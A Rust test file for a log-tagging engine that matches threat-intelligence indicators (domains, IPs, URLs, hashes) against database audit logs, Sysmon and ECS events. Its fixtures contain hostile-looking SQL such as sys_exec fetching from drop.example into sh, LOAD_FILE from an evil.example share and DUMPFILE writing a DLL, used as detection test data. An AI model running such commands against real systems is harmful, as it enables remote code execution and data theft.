//! Feeds of indicators from file to tag: what is read and what is not, where it is found, and how it
//! comes out.
#![cfg(feature = "compile")]

mod common;
mod generator;

use generator::Rng;
use serde_json::{Value, json};
use sigmatag::compile::{self, Options};
use sigmatag::engine::{
    Engine, Event, Format, LogsourceMode, Options as EngineOptions, Scratch, Shape, Tagging,
};
use sigmatag::ioc::{self, Count, Feed, Reading, Set, value::Type};
use sigmatag::limits;
use sigmatag::rule::ast::{Collection, Placeholders};
use sigmatag::rule::descriptor::built_in;
use sigmatag::rule::load::load_text;
use sigmatag::ruleset::RuleSet;
use std::sync::Arc;

/// 2026-06-01.
const AT: i64 = 1_780_272_000;
const READING: Reading = Reading { of: None, at: AT };

fn data(name: &str) -> Vec<u8> {
    std::fs::read(common::root().join("tests/data/indicators").join(name)).unwrap()
}

fn feed(name: &str, bytes: &[u8]) -> Feed {
    ioc::read(name, bytes, READING).unwrap()
}

fn rules_of(feeds: Vec<Feed>) -> RuleSet {
    let indicators = Some(Arc::new(Set::new(feeds, 4).unwrap()));
    let options = Options { sources: built_in(), indicators, ..Options::default() };
    compile::rule_set(&Collection::default(), &options).unwrap()
}

fn golden() -> RuleSet {
    rules_of(vec![
        feed("bundle", &data("bundle.json")),
        feed("misp", &data("misp.csv")),
        feed("list", &data("list.txt")),
    ])
}

/// Rule, type, value and field of each indicator in an event.
fn found(engine: &Engine, event: &str) -> Vec<String> {
    let mut scratch = Scratch::new(engine);
    scratch.match_event(engine, &Event::new(Format::Json, event.as_bytes())).unwrap();
    let rules = engine.rules();
    let set = rules.indicators().unwrap();
    let hits = scratch.hits();
    let line = |hit| {
        let indicator = set.indicator(hit).unwrap();
        let (id, value) = (rules.rule(hit.rule).unwrap().id, indicator.value());
        let value = std::str::from_utf8(value.as_bytes()).unwrap();
        assert!(hits.iter().any(|own| (own.event, own.rule) == (hit.event, hit.rule)));
        format!("{id} {value} in {}", indicator.field())
    };
    scratch.indicators().iter().map(line).collect()
}

fn numbers(feed: &Feed) -> Vec<(&str, u64)> {
    feed.report.numbers().map(|(_, name, number)| (name, number)).collect()
}

#[test]
fn golden_feeds_are_read_and_what_is_left_out_is_said() {
    let bundle = feed("bundle", &data("bundle.json"));
    assert_eq!(bundle.indicators.len(), 16);
    assert_eq!(
        numbers(&bundle),
        [
            ("bad", 2),
            ("unsupported", 4),
            ("expired", 1),
            ("not yet valid", 1),
            ("revoked or replaced", 2),
            ("matched by their value alone", 3),
        ]
    );
    let misp = feed("misp", &data("misp.csv"));
    assert_eq!(misp.indicators.len(), 9);
    assert_eq!(
        numbers(&misp),
        [
            ("bad", 1),
            ("unsupported", 1),
            ("expired", 1),
            ("not for detection", 1),
            ("repaired", 2),
            ("matched by their value alone", 2),
        ]
    );
    let bad = misp.report.problems().iter().find(|problem| problem.count == Count::Bad).unwrap();
    assert_eq!((bad.line, bad.message.as_str()), (9, "`300.1.2.3` is no IP address or network"));
    let list = feed("list", &data("list.txt"));
    assert_eq!(numbers(&list), [("bad", 4), ("repaired", 2)]);
    let lines = list.report.problems().iter().map(|problem| (problem.count, problem.line));
    let bad: Vec<u64> =
        lines.filter(|(count, _)| *count == Count::Bad).map(|(_, line)| line).collect();
    assert_eq!(bad, [7, 11, 12, 13]);
}

#[test]
fn indicators_are_found_where_they_may_be() {
    let engine = Engine::new(Arc::new(golden()), EngineOptions::default());
    let azure = |sql: &str| {
        let properties = json!({"event_class": "general_log", "sql_text": sql});
        json!({"category": "MySqlAuditLogs", "properties": properties}).to_string()
    };
    let mariadb = |sql: &str, host: &str| {
        let sql = sql.replace('\\', "\\\\").replace('\'', "\\'");
        json!({"log": format!("20261122 09:15:02,db,app,{host},4,5,QUERY,shop,'{sql}',0")})
            .to_string()
    };
    let cases: Vec<(String, &[&str])> = vec![
        (azure("SELECT 1"), &[]),
        // Peers of replication and remote servers.
        (
            azure("CHANGE MASTER TO MASTER_HOST='a.b.LOADER.example', MASTER_USER='x'"),
            &["ioc:bundle:domain loader.example in sql_norm"],
        ),
        (
            azure("CHANGE REPLICATION SOURCE TO SOURCE_HOST=\"203.0.113.77\""),
            &["ioc:bundle:ip 203.0.113.77 in sql_norm"],
        ),
        (
            azure("CREATE SERVER s FOREIGN DATA WRAPPER mysql OPTIONS (HOST '192.0.2.200')"),
            &["ioc:bundle:network 192.0.2.128/25 in sql_norm"],
        ),
        // Programs, libraries and files in statements.
        (
            azure("SELECT sys_exec('wget hxxp://no http://drop.example/a/~x/?id=1;sh')"),
            &["ioc:bundle:url http://drop.example/a/~x?id=1 in sql_norm"],
        ),
        (
            azure("SELECT LOAD_FILE('\\\\\\\\evil.example\\\\x')"),
            &["ioc:list:domain evil.example in sql_norm"],
        ),
        (
            mariadb("SELECT LOAD_FILE('\\\\\\\\evil.example\\\\x')", "10.0.0.1"),
            &["ioc:list:domain evil.example in sql_norm"],
        ),
        (mariadb("SELECT 'x\\nevil.example'", "h"), &["ioc:list:domain evil.example in sql_norm"]),
        (
            azure("SELECT 0x00 INTO DUMPFILE 'C:\\\\mysql\\\\lib\\\\SQLNC.dll'"),
            &["ioc:misp:file_name sqlnc.dll in sql_norm"],
        ),
        (
            azure("INSERT INTO t VALUES ('aabbccddeeff00112233445566778899', 'bob@phish.example')"),
            &[
                "ioc:list:hash aabbccddeeff00112233445566778899 in sql_norm",
                "ioc:misp:email bob@phish.example in sql_norm",
            ],
        ),
        (azure("SELECT 1 /* evil.example */"), &[]),
        (azure("SELECT notevil.example, evil.example.org"), &[]),
        // Clients.
        (
            mariadb("SELECT 1", "203.0.113.66"),
            &["ioc:bundle:ip 203.0.113.66 in host", "ioc:misp:ip 203.0.113.66 in host"],
        ),
        (mariadb("SELECT 1", "c2.loader.example"), &["ioc:bundle:domain loader.example in host"]),
        (
            r#"{"category":"MySqlAuditLogs","properties":{"event_class":"general_log","user":"u[u] @  [198.51.100.7]"}}"#.into(),
            &[],
        ),
        (
            r#"{"category":"MySqlSlowLogs","properties":{"host":"u[u] @ x [198.51.100.7]"}}"#.into(),
            &["ioc:bundle:ip 198.51.100.7 in account_ip"],
        ),
        // Fields of the Elastic Common Schema, as objects and as names with dots.
        (r#"{"source":{"ip":"203.0.113.5"}}"#.into(), &["ioc:list:network 203.0.113.0/28 in source.ip"]),
        (
            r#"{"destination.ip":"::ffff:203.0.113.5","client":{"address":"2001:db8:f00d::9"}}"#.into(),
            &[
                "ioc:list:network 2001:db8:f00d::/48 in client.address",
                "ioc:list:network 203.0.113.0/28 in destination.ip",
            ],
        ),
        (
            r#"{"dns":{"question":{"name":"WWW.evil.EXAMPLE."},"resolved_ip":["192.0.2.1","2001:db8::66"]}}"#.into(),
            &["ioc:bundle:ip 2001:db8::66 in dns.resolved_ip", "ioc:list:domain evil.example in dns.question.name"],
        ),
        (
            r#"{"url":{"full":"http://cdn.example/payload.bin?x=1"}}"#.into(),
            &[],
        ),
        (
            r#"{"url":{"full":"HTTP://u:p@CDN.example:80/payload.bin#x"}}"#.into(),
            &["ioc:list:url http://cdn.example/payload.bin in url.full"],
        ),
        (
            r#"{"url":{"original":"ftp://paste.example/raw/x1"}}"#.into(),
            &["ioc:list:url //paste.example/raw/x1 in url.original"],
        ),
        (
            r#"{"url":{"full":"https://x.evil.example/?u=loader.example"}}"#.into(),
            &["ioc:list:domain evil.example in url.full"],
        ),
        (
            r#"{"email":{"from":{"address":"\"Boss\" <BOSS@phish.example>"}}}"#.into(),
            &["ioc:bundle:email boss@phish.example in email.from.address"],
        ),
        (
            r#"{"file":{"path":"/home/x/invoice 2026.EXE","hash":{"sha256":"00112233445566778899AABBCCDDEEFF00112233445566778899AABBCCDDEEFF"}}}"#.into(),
            &[
                "ioc:bundle:file_name invoice 2026.exe in file.path",
                "ioc:bundle:hash 00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff in file.hash.sha256",
            ],
        ),
        // Sysmon.
        (
            r#"{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"Hashes":"MD5=AABBCCDDEEFF00112233445566778899,IMPHASH=00000000000000000000000000000000"}"#.into(),
            &["ioc:list:hash aabbccddeeff00112233445566778899 in Hashes"],
        ),
        (
            r#"{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":22,"QueryName":"a.miner.example","QueryResults":"type:  5 b.pair.example;::ffff:203.0.113.90;"}"#.into(),
            &[
                "ioc:misp:ip 203.0.113.90 in QueryResults",
                "ioc:misp:domain miner.example in QueryName",
                "ioc:misp:domain pair.example in QueryResults",
            ],
        ),
        // Fields that nobody looks at, and values that are no text.
        (r#"{"message":"evil.example","CommandLine":"curl evil.example"}"#.into(), &[]),
        (r#"{"source":{"ip":[null,5,{"a":"203.0.113.5"},"203.0.113.4"]}}"#.into(), &["ioc:list:network 203.0.113.0/28 in source.ip"]),
    ];
    for (event, expected) in cases {
        let mut found = found(&engine, &event);
        let mut expected: Vec<&str> = expected.to_vec();
        found.sort();
        expected.sort_unstable();
        assert_eq!(found, expected, "{event}");
    }
}

/// Statements are looked at as they were logged where no source brings them into one spelling.
#[test]
fn a_statement_is_looked_at_once() {
    let engine = Engine::new(Arc::new(golden()), EngineOptions::default());
    let event = r#"{"sql_text":"SELECT 'evil.example' -- loader.example"}"#;
    let both = [
        "ioc:bundle:domain loader.example in sql_text",
        "ioc:list:domain evil.example in sql_text",
    ];
    assert_eq!(found(&engine, event), both);
    let event = r#"{"sql_text":"SELECT 'evil.example' -- loader.example","sql_norm":"SELECT 1"}"#;
    assert_eq!(found(&engine, event), [""; 0]);
}

/// A text without an indicator is remembered as one; not beyond the rules that it was looked up in, nor
/// for other kinds.
#[test]
fn what_had_no_indicator_may_have_one_of_other_rules() {
    let of = |list: &str| Arc::new(rules_of(vec![feed("list", list.as_bytes())]));
    let engine = Engine::new(of("203.0.113.7\nbad.example\n"), EngineOptions::default());
    let mut scratch = Scratch::new(&engine);
    let mut count = |engine: &Engine, event: &str| {
        let event = Event::new(Format::Json, event.as_bytes());
        scratch.match_event(engine, &event).unwrap();
        scratch.indicators().len()
    };
    let event = r#"{"source":{"ip":"203.0.113.8"},"query":"new.example"}"#;
    let known = r#"{"source":{"ip":"203.0.113.7"},"query":"a.bad.example"}"#;
    for _ in 0..3 {
        assert_eq!(count(&engine, event), 0);
        assert_eq!(count(&engine, known), 2);
    }
    engine.reload(of("203.0.113.8\nnew.example\n"));
    for _ in 0..3 {
        assert_eq!(count(&engine, event), 2);
        assert_eq!(count(&engine, known), 0);
    }
    // A domain is none in a field of hashes, and is one in the next field.
    assert_eq!(count(&engine, r#"{"Hashes":"new.example"}"#), 0);
    assert_eq!(count(&engine, r#"{"Hashes":"new.example","query":"new.example"}"#), 1);
}

fn tagged(engine: &Engine, event: &[u8], shape: Shape) -> Value {
    let mut scratch = Scratch::new(engine);
    let tagging = Tagging { shape, ..Tagging::default() };
    let event = Event::new(Format::Json, event);
    let (needed, _) = scratch.tag_prepare(engine, &event, &tagging).unwrap();
    let mut out = vec![0; needed.expect("a match")];
    scratch.tag_write(event.data, &mut out).unwrap();
    serde_json::from_slice(&out).unwrap()
}

#[test]
fn tags_say_what_was_found() {
    let engine = Engine::new(Arc::new(golden()), EngineOptions::default());
    let event = br#"{"destination":{"domain":"x.loader.example"}}"#;
    let indicator = json!({
        "type": "domain", "value": "loader.example",
        "id": "indicator--00000000-0000-4000-8000-000000000001", "name": "Loader's server",
        "confidence": 85, "valid_until": "2030-01-01T00:00:00Z", "field": "destination.domain",
        "tags": ["attack.command-and-control", "attack.t1105", "malicious-activity"],
    });
    let tag = tagged(&engine, event, Shape::Nested);
    let rule = json!({
        "id": "ioc:bundle:domain", "title": "Indicator: domain from bundle", "level": "high",
        "indicators": [indicator],
    });
    assert_eq!(tag["sigma"]["rules"], json!([rule]));
    assert_eq!(tag["sigma"]["level"], "high");
    let tag = tagged(&engine, event, Shape::Flat);
    assert_eq!(tag["SigmaIndicators"], json!([indicator]));
    assert_eq!(tag["AttackTechniques"], json!(["T1105"]));
    assert_eq!(tag["SigmaTags"], indicator["tags"]);
    let tag = tagged(&engine, event, Shape::Ecs);
    assert_eq!(tag["sigma"]["indicators"], json!([indicator]));
    assert_eq!(tag["threat"]["technique"]["id"], json!(["T1105"]));

    // Events of one record.
    let event = br#"{"records":[
        {"category":"MySqlAuditLogs","properties":{"ip":"198.51.100.7"}},
        {"category":"MySqlAuditLogs","properties":{"ip":"1.2.3.4"}},
        {"category":"MySqlAuditLogs","properties":{"ip":"203.0.113.90"}}]}"#;
    let tag = tagged(&engine, event, Shape::Nested);
    let rules = tag["sigma"]["rules"].as_array().unwrap();
    let of = |rule: &Value| (rule["event"].clone(), rule["indicators"][0]["value"].clone());
    let found: Vec<_> = rules.iter().map(of).collect();
    assert_eq!(found, [(json!(0), json!("198.51.100.7")), (json!(2), json!("203.0.113.90"))]);
    // A column that came with the record is replaced.
    let event = br#"{"SigmaIndicators":[{"type":"ip"}],"source":{"ip":"198.51.100.7"}}"#;
    let tag = tagged(&engine, event, Shape::Flat);
    assert_eq!(tag["SigmaIndicators"][0]["value"], "198.51.100.7");
}

#[test]
fn what_is_listed_is_bounded_and_the_rule_reports_anyway() {
    let values: String = (0..3000).map(|number| format!("d{number}.example\n")).collect();
    let urls: String =
        (0..20).map(|n| format!("http://u{n}.example/{}\n", "x".repeat(1900))).collect();
    let feeds = vec![feed("many", values.as_bytes()), feed("long", urls.as_bytes())];
    let engine = Engine::new(Arc::new(rules_of(feeds)), EngineOptions::default());
    let event = json!({ "db": { "statement": values, "query": { "text": urls } } }).to_string();
    for shape in [Shape::Nested, Shape::Flat, Shape::Ecs] {
        let tag = tagged(&engine, event.as_bytes(), shape).to_string();
        assert!(tag.len() < event.len() + limits::MAX_TAG_BYTES, "{}", tag.len() - event.len());
        assert!(tag.contains("ioc:many:domain") && tag.contains("ioc:long:url"), "{shape:?}");
        let more =
            if shape == Shape::Nested { r#""more_indicators":true"# } else { r#"{"more":true}"# };
        assert!(tag.contains(more), "{shape:?}");
    }
    let tag = tagged(&engine, event.as_bytes(), Shape::Nested);
    let rules = tag["sigma"]["rules"].as_array().unwrap();
    let listed = |rule: &Value| rule["indicators"].as_array().unwrap().len();
    assert_eq!(rules.iter().map(listed).collect::<Vec<_>>(), [1, limits::LISTED_INDICATORS]);
}

/// Whoever can write a statement can write one that is made to take long.
#[test]
fn hostile_statements_end() {
    let list: String = (1..=32).map(|length| format!("8.0.0.0/{length}\n")).collect();
    let list =
        list + "2001:db8::/32\nevil.example\nhttp://x.example/a\nq@x.example\n" + &"ab".repeat(16);
    let engine =
        Engine::new(Arc::new(rules_of(vec![feed("x", list.as_bytes())])), EngineOptions::default());
    let mut scratch = Scratch::new(&engine);
    let pieces = [
        "http://",
        "http://a ",
        "http://a%7e/",
        "a.",
        ":",
        "a:",
        "2001:db8::1 ",
        "@",
        "a@",
        "a",
        "\\n",
        "\\",
        "/",
        "evil.example ",
        "evil.example",
        "8.8.8.8 ",
        "1:",
        "f",
        "0x",
        "(",
        "é",
    ];
    for piece in pieces {
        let event =
            json!({ "db": { "statement": piece.repeat((1 << 20) / piece.len()) } }).to_string();
        let begin = std::time::Instant::now();
        scratch.match_event(&engine, &Event::new(Format::Json, event.as_bytes())).unwrap();
        // A tenth of a second where nothing else runs; what grows with the square takes hours.
        assert!(begin.elapsed().as_secs() < 30, "{piece:?} takes {:?}", begin.elapsed());
    }
}

#[test]
fn rules_of_indicators_are_rules() {
    let text =
        "title: t\nid: z-last\nlogsource: {product: windows}\ndetection: {s: {x: 1}, condition: s}";
    let collection = load_text("r.yml", text, &Placeholders::new()).collection;
    let set = Set::new(vec![feed("list", b"evil.example\n203.0.113.9\n")], 2).unwrap();
    let indicators = Some(Arc::new(set));
    let options = Options { sources: built_in(), indicators, ..Options::default() };
    let rules = Arc::new(compile::rule_set(&collection, &options).unwrap());
    assert_eq!((rules.rule_count(), rules.indicators().unwrap().first_rule), (3, 1));
    let event =
        json!({"x": 1, "source": {"ip": "203.0.113.9", "domain": "evil.example"}}).to_string();
    let ids = |options: EngineOptions, logsource: &str| {
        let engine = Engine::new(Arc::clone(&rules), options);
        let mut scratch = Scratch::new(&engine);
        let event =
            Event { logsource: logsource.as_bytes(), ..Event::new(Format::Json, event.as_bytes()) };
        let summary = scratch.match_event(&engine, &event).unwrap();
        assert_eq!(summary.hits as usize, scratch.hits().len());
        let id = |rule: u32| rules.rule(rule).unwrap().id.to_owned();
        let indicators: Vec<String> = scratch.indicators().iter().map(|hit| id(hit.rule)).collect();
        let hits: Vec<String> = scratch.hits().iter().map(|hit| id(hit.rule)).collect();
        assert_eq!(
            hits.iter().filter(|id| id.starts_with("ioc:")).cloned().collect::<Vec<_>>(),
            indicators
        );
        hits
    };
    let default = EngineOptions::default;
    assert_eq!(ids(default(), ""), ["z-last", "ioc:list:ip", "ioc:list:domain"]);
    assert_eq!(ids(default(), "linux//"), ["ioc:list:ip", "ioc:list:domain"]);
    let disable_rules = vec!["ioc:list:ip".to_owned()];
    assert_eq!(ids(EngineOptions { disable_rules, ..default() }, "linux//"), ["ioc:list:domain"]);
    assert_eq!(ids(EngineOptions { min_level: 3, ..default() }, ""), ["z-last"]);
    let strict = EngineOptions { logsource_mode: LogsourceMode::Strict, ..default() };
    assert_eq!(ids(strict.clone(), ""), [""; 0]);
    assert_eq!(ids(strict, "windows//"), ["z-last", "ioc:list:ip", "ioc:list:domain"]);
}

#[test]
fn batches_and_chunks_say_which_record() {
    let engine = Engine::new(Arc::new(golden()), EngineOptions::default());
    let mut scratch = Scratch::new(&engine);
    let texts = [
        r#"{"a":1}"#,
        r#"{"source":{"ip":"198.51.100.7"}}"#,
        r#"{"source":{"ip":"203.0.113.77"}}"#,
    ];
    let events = texts.map(|text| Event::new(Format::Json, text.as_bytes()));
    scratch.match_batch(&engine, &events).unwrap();
    let records: Vec<u32> = scratch.indicators().iter().map(|hit| hit.record).collect();
    assert_eq!(records, [1, 2]);
    let mut chunk = Vec::new();
    for text in texts {
        chunk.extend(b"\x92\xd7\x00\x66\x8e\x00\x00\x00\x00\x00\x01");
        chunk.extend(common::to_msgpack(&serde_json::from_str(text).unwrap()));
    }
    let event = Event::new(Format::FlbChunk, &chunk);
    let (needed, summary) = scratch.tag_prepare(&engine, &event, &Tagging::default()).unwrap();
    let mut out = vec![0; needed.unwrap()];
    scratch.tag_write(&chunk, &mut out).unwrap();
    assert_eq!((summary.matched_records, scratch.indicators()[1].record), (2, 2));
    assert!(out.windows(12).any(|window| window == b"203.0.113.77"));
}

#[test]
fn the_order_of_feeds_and_lines_says_nothing() {
    let (bundle, misp, list) = (data("bundle.json"), data("misp.csv"), data("list.txt"));
    let compiled = |feeds: Vec<Feed>| {
        let indicators = Some(Arc::new(Set::new(feeds, 4).unwrap()));
        let options = Options { sources: built_in(), indicators, ..Options::default() };
        compile::compile(&Collection::default(), &options).unwrap().bytes
    };
    let one = compiled(vec![feed("a", &bundle), feed("b", &misp), feed("c", &list)]);
    let mut lines: Vec<&str> = std::str::from_utf8(&list).unwrap().lines().collect();
    lines.reverse();
    lines.push("EVIL.example"); // once more
    let other = compiled(vec![
        feed("c", lines.join("\r\n").as_bytes()),
        feed("a", &bundle),
        feed("b", &misp),
    ]);
    assert!(one == other, "the bytes differ");
    let less = compiled(vec![feed("a", &bundle), feed("b", &misp)]);
    let identity = |bytes: &[u8]| RuleSet::from_bytes(bytes).unwrap().identity().to_owned();
    assert_ne!(identity(&one), identity(&less));
    // Without indicators there is no section and no field of theirs.
    let none = Options { sources: built_in(), ..Options::default() };
    let none = compile::compile(&Collection::default(), &none).unwrap().bytes;
    assert!(compiled(vec![feed("a", b"")]) == none, "no indicator is as no feed");
    let header = RuleSet::from_bytes(&none).unwrap().header().clone();
    assert!(header.sections.iter().all(|(name, _)| *name != "indicators"));
}

#[test]
fn times_decide_at_compile_time() {
    let list = "type,value,valid_from,valid_until\n\
                domain,a.example,2026-01-01,2026-06-02\n\
                domain,b.example,,2026-06-01\n\
                domain,c.example,2026-06-01T00:00:01Z,\n\
                domain,d.example,2026-06-01,\n\
                domain,e.example,soon,\n";
    let read = feed("x", list.as_bytes());
    assert_eq!(numbers(&read), [("bad", 1), ("expired", 1), ("not yet valid", 1)]);
    let rules = rules_of(vec![read]);
    let set = rules.indicators().unwrap();
    assert_eq!(set.entries.len(), 2);
    assert_eq!(
        [AT - 1, AT, AT + 86_400, AT + 86_460].map(|now| set.expired(now as u64)),
        [0, 0, 1, 1]
    );
}

#[test]
fn limits_are_named() {
    let names =
        (0..=limits::INDICATOR_FEEDS).map(|n| feed(&format!("f{n}"), b"a.example")).collect();
    let error = Set::new(names, 4).unwrap_err().to_string();
    assert!(error.contains("65 feeds, the limit is 64"), "{error}");
    let error = Set::new(vec![feed("x", b""), feed("x", b"")], 4).unwrap_err().to_string();
    assert!(error.contains("two feeds are called `x`"), "{error}");
    let long = format!("http://a.example/{}", "x".repeat(limits::INDICATOR_BYTES));
    let read = feed("x", long.as_bytes());
    assert!(read.report.problems()[0].message.contains("the limit is 2048"), "{:?}", read.report);
    let deep = format!("{}a:b=1{}", "[(".repeat(40), ")]".repeat(40));
    let object = json!({"type": "indicator", "id": "i", "pattern": deep, "pattern_type": "stix"});
    assert_eq!(numbers(&feed("x", object.to_string().as_bytes())), [("bad", 1)]);
    let many = vec!["a:b=1"; 5000].join(" OR ");
    let object = json!({"type": "indicator", "id": "i", "pattern": format!("[{many}]")});
    let read = feed("x", object.to_string().as_bytes());
    assert!(read.report.problems()[0].message.contains("more than 4096"), "{:?}", read.report);
    let nested = format!("{}1{}", "[".repeat(5000), "]".repeat(5000));
    let json = format!("{{\"objects\":[{nested}]}}");
    assert!(ioc::read("x", json.as_bytes(), READING).is_err());
}

/// Feeds are written by others: whatever they hold, reading ends with indicators or reasons.
#[test]
fn damaged_feeds_are_read_to_their_end() {
    let mut rng = Rng::new(11);
    let feeds = [data("bundle.json"), data("misp.csv"), data("list.txt")];
    let rounds = if cfg!(debug_assertions) { 3_000 } else { 30_000 };
    let (mut read, mut refused) = (0, 0);
    for _ in 0..rounds {
        let mut bytes = rng.pick(&feeds).clone();
        for _ in 0..1 + rng.below(12) {
            let at = rng.below(bytes.len());
            match rng.below(6) {
                0 => bytes[at] = rng.next() as u8,
                1 => bytes.truncate(at.max(1)),
                2 => bytes.insert(at, *rng.pick(b"[]{}()'\"\\,:#\n|@/.%* \0\xff")),
                3 => drop(bytes.remove(at)),
                4 => {
                    let from = rng.below(bytes.len());
                    let part = bytes[from..(from + 40).min(bytes.len())].to_vec();
                    bytes.splice(at..at, part);
                }
                _ => bytes[at] ^= 0x20,
            }
            if bytes.is_empty() {
                bytes.push(b'x');
            }
        }
        let of = if rng.chance(10) { Some(Type::FileName) } else { None };
        match ioc::read("x", &bytes, Reading { of, at: AT }) {
            Ok(feed) => {
                read += 1;
                if rng.chance(5) {
                    let rules = rules_of(vec![feed]);
                    let engine = Engine::new(Arc::new(rules), EngineOptions::default());
                    let mut scratch = Scratch::new(&engine);
                    let data =
                        json!({ "db": {"statement": String::from_utf8_lossy(&bytes)} }).to_string();
                    scratch
                        .match_event(&engine, &Event::new(Format::Json, data.as_bytes()))
                        .unwrap();
                }
            }
            Err(error) => {
                refused += 1;
                assert!(!error.to_string().is_empty());
            }
        }
    }
    assert!(read > rounds / 4 && refused > 0, "{read} read, {refused} refused");
}

#[test]
fn every_field_is_documented() {
    let text = std::fs::read_to_string(common::root().join("docs/indicators.md")).unwrap();
    let is_said = |name: &str| {
        // Names of one object stand together: `source.` with `ip`.
        let quoted = |part: &str| text.contains(&format!("`{part}`"));
        let cut = |at: usize| quoted(&name[..=at]) && quoted(&name[at + 1..]);
        quoted(name)
            || name.match_indices('.').any(|(at, _)| cut(at))
            || name
                .strip_prefix("TargetFile")
                .is_some_and(|end| quoted("TargetFile") && quoted(&end.to_lowercase()))
            || quoted(&name.to_lowercase())
    };
    let missing: Vec<&str> =
        ioc::fields::fields().map(|field| field.name).filter(|name| !is_said(name)).collect();
    assert!(missing.is_empty(), "docs/indicators.md lacks {missing:?}");
}
